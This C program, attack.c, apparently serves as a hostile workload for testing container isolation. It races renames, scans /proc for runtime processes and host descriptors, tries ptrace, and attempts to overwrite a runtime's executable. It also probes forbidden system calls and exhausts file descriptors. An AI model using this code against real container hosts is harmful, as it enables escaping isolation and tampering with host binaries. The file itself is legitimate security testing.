// SPDX-License-Identifier: MIT
/*
 * attack - what a hostile workload does, as a static program
 *
 *   attack swap A B          exchanges two names until it is killed
 *   attack watch SECONDS     looks at every new process in sight: its program,
 *                            its descriptors, whether it can be traced, and
 *                            whether its program can be written afterwards
 *   attack calls             system calls that a container must not have
 *   attack calls32           the same as a program of 32 bit would make them
 *   attack eat inotify|fds   takes all it can get, then waits
 *
 * watch prints a line per finding; nothing means that nothing was found.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE     2 /* RENAME_EXCHANGE */
#define SYS_FSOPEN   430
#define SYS_CLONE3   435
#define FAMILY_ALG   38
#define FAMILY_VSOCK 40
#define NEW_USER     0x10000000
#define EXE_FDS      256

static _Noreturn void swap(const char *a, const char *b)
{
	for (;;)
		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b,
			EXCHANGE);
}

/* Programs of the container itself are no finding. */
static int is_ours(const char *program)
{
	return strstr(program, "busybox") != NULL ||
	       strstr(program, "attack") != NULL;
}

/* Our way to the program of a runtime, kept until nobody executes it. */
static int exe_fds[EXE_FDS];
static int exe_fd_count;

static void look_at_program(const char *pid)
{
	char path[64];
	char program[PATH_MAX];
	ssize_t length;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	length = readlink(path, program, sizeof(program) - 1);
	if (length <= 0)
		return;
	program[length] = '\0';
	if (is_ours(program))
		return;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || exe_fd_count == EXE_FDS)
		return;
	exe_fds[exe_fd_count++] = fd;
}

static void look_at_descriptors(const char *pid)
{
	char path[64];
	struct dirent *entry;
	DIR *folder;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	folder = opendir(path);
	while (folder && (entry = readdir(folder))) {
		char sentinel[400];

		/* a folder of the host: the test put this file there */
		(void)snprintf(sentinel, sizeof(sentinel), "%s/%s/sentinel",
			path, entry->d_name);
		if (access(sentinel, F_OK) == 0)
			printf("descriptor of the host: %s\n", sentinel);
	}
	if (folder)
		(void)closedir(folder);
	(void)snprintf(path, sizeof(path), "/proc/%s/cwd/sentinel", pid);
	if (access(path, F_OK) == 0)
		printf("folder of the host: %s\n", path);
}

/* A process that is not yet a program of the container must not be traced. */
static void trace(const char *pid)
{
	pid_t process = (pid_t)strtol(pid, NULL, 10);
	char path[64];
	char program[PATH_MAX];
	ssize_t length;

	if (ptrace(PTRACE_SEIZE, process, NULL, NULL) < 0)
		return;
	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	length = readlink(path, program, sizeof(program) - 1);
	program[length > 0 ? length : 0] = '\0';
	if (length > 0 && !is_ours(program))
		printf("traced: %s\n", program);
	(void)ptrace(PTRACE_INTERRUPT, process, NULL, NULL);
	(void)waitpid(process, NULL, __WALL);
	(void)ptrace(PTRACE_DETACH, process, NULL, NULL);
}

static void try_to_write(void)
{
	for (int i = 0; i < exe_fd_count; i++) {
		char path[64];
		char target[PATH_MAX];
		int fd;
		ssize_t length;

		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d",
			exe_fds[i]);
		length = readlink(path, target, sizeof(target) - 1);
		target[length > 0 ? length : 0] = '\0';
		fd = open(path, O_WRONLY | O_CLOEXEC);
		for (int wait = 0; fd < 0 && errno == ETXTBSY && wait < 200;
			wait++) {
			struct timespec ms = { .tv_nsec = 1000000 };

			(void)nanosleep(&ms, NULL); /* until it has ended */
			fd = open(path, O_WRONLY | O_CLOEXEC);
		}
		if (fd >= 0 && write(fd, "#!/bin/evil\n", 12) == 12)
			printf("written: %s\n", target);
		if (fd >= 0)
			(void)close(fd);
	}
}

static int watch(long seconds)
{
	time_t end = time(NULL) + seconds;
	int own = (int)getpid();

	while (time(NULL) < end) {
		struct dirent *entry;
		DIR *folder = opendir("/proc");

		while (folder && (entry = readdir(folder))) {
			long pid = strtol(entry->d_name, NULL, 10);

			if (pid <= 1 || pid == own)
				continue;
			look_at_program(entry->d_name);
			look_at_descriptors(entry->d_name);
			trace(entry->d_name);
		}
		if (folder)
			(void)closedir(folder);
	}
	try_to_write();
	printf("watched\n");
	return 0;
}

static void say(const char *name, long result)
{
	printf("%s %s\n", name, result < 0 ? strerror(errno) : "allowed");
}

static int calls(void)
{
	say("unshare-user", syscall(SYS_unshare, NEW_USER));
	say("clone-user", syscall(SYS_clone, NEW_USER | SIGCHLD, 0, 0, 0, 0));
	say("clone3", syscall(SYS_CLONE3, NULL, 0));
	say("fsopen", syscall(SYS_FSOPEN, "tmpfs", 0));
	say("mount", syscall(SYS_mount, "none", "/", "tmpfs", 0, 0));
	say("keyctl", syscall(SYS_keyctl, 0, -3, 0));
	say("bpf", syscall(SYS_bpf, 0, NULL, 0));
	say("socket-alg", socket(FAMILY_ALG, SOCK_SEQPACKET, 0));
	say("socket-vsock", socket(FAMILY_VSOCK, SOCK_STREAM, 0));
	say("ptrace", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
	return 0;
}

#ifdef __x86_64__
/* As int 0x80 does it, for which the kernel has numbers of its own. */
static long call32(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a), "c"(b), "d"(c)
			 : "r8", "r9", "r10", "r11", "memory");
	if (result < 0) {
		errno = (int)-result;
		return -1;
	}
	return result;
}
#else
static long call32(long number, long a, long b, long c)
{
	(void)number;
	(void)a;
	(void)b;
	(void)c;
	errno = ENOSYS;
	return -1;
}
#endif

static int calls32(void)
{
	say("getpid", call32(20, 0, 0, 0));
	say("unshare-user", call32(310, NEW_USER, 0, 0));
	say("fsopen", call32(SYS_FSOPEN, 0, 0, 0));
	say("socket-alg", call32(359, FAMILY_ALG, SOCK_SEQPACKET, 0));
	say("socket-vsock", call32(359, FAMILY_VSOCK, SOCK_STREAM, 0));
	return 0;
}

static int eat(const char *what)
{
	long count = 0;

	if (strcmp(what, "inotify") == 0) {
		while (inotify_init1(IN_CLOEXEC) >= 0)
			count++;
	} else {
		while (open("/dev/null", O_RDONLY | O_CLOEXEC) >= 0)
			count++;
	}
	printf("ate %ld: %s\n", count, strerror(errno));
	(void)pause();
	return 0;
}

int main(int argc, char **argv)
{
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		swap(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch(strtol(argv[2], NULL, 10));
	if (argc == 3 && strcmp(argv[1], "eat") == 0)
		return eat(argv[2]);
	if (argc == 2 && strcmp(argv[1], "calls") == 0)
		return calls();
	if (argc == 2 && strcmp(argv[1], "calls32") == 0)
		return calls32();
	(void)fputs("attack: see the head of attack.c\n", stderr);
	return 2;
}
